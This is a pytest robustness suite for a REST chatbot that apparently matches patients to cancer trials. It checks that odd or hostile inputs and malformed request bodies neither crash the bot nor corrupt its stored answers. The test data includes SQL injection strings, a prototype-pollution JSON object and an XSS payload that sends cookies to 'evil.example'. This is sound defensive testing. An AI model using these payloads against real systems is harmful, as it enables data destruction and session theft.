"""Hostile and odd input over REST against the real stack: no turn crashes, no slot
holds anything but a validated value, and the next valid answer still works.

Each case is sent at the tumour-site question of its own conversation (age
already answered), then the test checks every form slot is empty or canonical,
that the age given before is still there, and that "larynx" is then accepted.
"""

from __future__ import annotations

import json

import pytest

from actions.profile import FORM_SLOTS, UNKNOWN, canonical
from bot.server.guards import MAX_MESSAGE_CHARS
from knowledge import vocab
from tests.stack import MODEL
from tests.test_security import request, to_question

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not MODEL.exists(), reason="no trained model: run `make train` (make test does)"),
]

BAD_MESSAGES = {
    "empty": "",
    "blank": "   \n\t ",
    "ten-thousand-chars": "my tumour is in the " + "very " * 2000 + "end",
    "emoji-only": "\U0001f600\U0001f64f\U0001f3fd\U0001f525\u2764\ufe0f",
    "chinese": "我今年六十一岁，得了喉癌",
    "spanish": "tengo un tumor en la garganta, no sé dónde exactamente",
    "sql": "1' OR '1'='1'; DROP TABLE trials; --",
    "sql-union": "larynx' UNION SELECT * FROM criteria --",
    "html-script": "<script>fetch('http://evil.example/?c='+document.cookie)</script>",
    "json-lookalike": '{"tumor_site": "larynx", "__proto__": {"admin": true}}',
    "slash-garbage": "/inform{not json at all",
    "null-bytes": "lar\x00ynx\x00",
    "rtl-override": "\u202enoitcejni\u202c",
}


@pytest.fixture(scope="module")
def stack(shared_stack):
    return shared_stack


def assert_slots_valid(slots: dict) -> None:
    """Every form slot is empty or holds what validation produces."""
    for name in FORM_SLOTS:
        value = slots.get(name)
        if value is None or value == UNKNOWN:
            continue
        if name == "tumor_site":
            assert value in vocab.sites(), f"tumor_site={value!r}"
        elif name == "location":
            assert isinstance(value, str) and len(value) < 80 and "<" not in value, f"location={value!r}"
        else:
            assert canonical(name, value), f"{name}={value!r}"


def user_texts(tracker: dict) -> list[str]:
    return [e.get("text") or "" for e in tracker["events"] if e.get("event") == "user"]


@pytest.mark.parametrize("case", list(BAD_MESSAGES))
def test_bad_message_at_a_question(stack, case):
    sender = f"bad-{case}"
    to_question(stack, sender, "tumor_site")
    stack.say(sender, BAD_MESSAGES[case])  # 200 with a list of replies, or the helper fails
    tracker = stack.tracker(sender)
    assert_slots_valid(tracker["slots"])
    # The Chinese message is read since issue 12: "我今年六十一岁" corrects the age (58 -> 61).
    assert tracker["slots"]["age"] == (61 if case == "chinese" else 58), "an earlier answer was lost"
    assert all(len(t) <= MAX_MESSAGE_CHARS for t in user_texts(tracker)), "a message over the cap was stored"
    if tracker["slots"]["requested_slot"] == "tumor_site":
        stack.say(sender, "larynx")
        tracker = stack.tracker(sender)
    assert tracker["slots"]["tumor_site"] in vocab.sites()
    assert tracker["slots"]["requested_slot"] == "stage"


def test_duplicate_sends_of_the_same_answer(stack):
    sender = "bad-duplicate"
    to_question(stack, sender, "age")
    for _ in range(3):
        stack.say(sender, "I'm 58")
    slots = stack.tracker(sender)["slots"]
    assert_slots_valid(slots)
    assert slots["age"] == 58 and slots["tumor_site"] is None and slots["requested_slot"] == "tumor_site"
    stack.say(sender, "larynx")
    assert stack.tracker(sender)["slots"]["tumor_site"] == "larynx"


@pytest.mark.parametrize(
    "body, content_type",
    [
        (b"{not json", "application/json"),
        (b"sender=a&message=hello", "application/x-www-form-urlencoded"),
        (b"hello", "text/plain"),
        (b"", "application/json"),
        (b"[]", "application/json"),
        (b"null", "application/json"),
        (b'{"sender": "bad-json"}', "application/json"),
        (b'{"message": "hello"}', "application/json"),
        (b'{"sender": ["x"], "message": "hello"}', "application/json"),
        (b'{"sender": "bad-json", "message": 42}', "application/json"),
        (b'{"sender": "bad-json", "message": "hi", "metadata": [1]}', "application/json"),
        (
            b'{"sender": "bad-json", "message": "hi", "metadata": ' + b'{"a":' * 5000 + b"1" + b"}" * 5001,
            "application/json",
        ),
        (b'{"sender": "bad-json", "message": "hi"}', "text/plain"),
        ('{"sender": "bad-json", "message": "\udcff"}'.encode("utf-8", "surrogatepass"), "application/json"),
    ],
)
def test_malformed_bodies_get_a_client_error_and_the_stack_keeps_answering(stack, body, content_type):
    url = f"http://127.0.0.1:{stack.rasa_port}/webhooks/rest/webhook"
    status, _, text = request(url, raw=body, headers={"Content-Type": content_type}, method="POST")
    assert 400 <= status < 500, (status, text[:200])
    replies = stack.say("bad-json-after", "hello")
    assert any("not medical advice" in (r.get("text") or "") for r in replies) or replies


def test_a_get_or_a_huge_body_is_not_a_server_error(stack):
    url = f"http://127.0.0.1:{stack.rasa_port}/webhooks/rest/webhook"
    assert 400 <= request(url, method="GET")[0] < 500
    huge = json.dumps({"sender": "bad-huge", "message": "x" * 2_000_000}).encode()
    status, _, _ = request(url, raw=huge, headers={"Content-Type": "application/json"}, method="POST")
    assert status == 413  # over the webhook's 64 KiB: refused before anything reads it
    long = json.dumps({"sender": "bad-huge", "message": "my tumour is " + "very " * 4000 + "big"}).encode()
    status, _, _ = request(url, raw=long, headers={"Content-Type": "application/json"}, method="POST")
    assert status == 200  # within the limit: taken, and cut before NLU
    stored = user_texts(stack.tracker("bad-huge"))
    assert len(stored) == 1 and len(stored[0]) == MAX_MESSAGE_CHARS
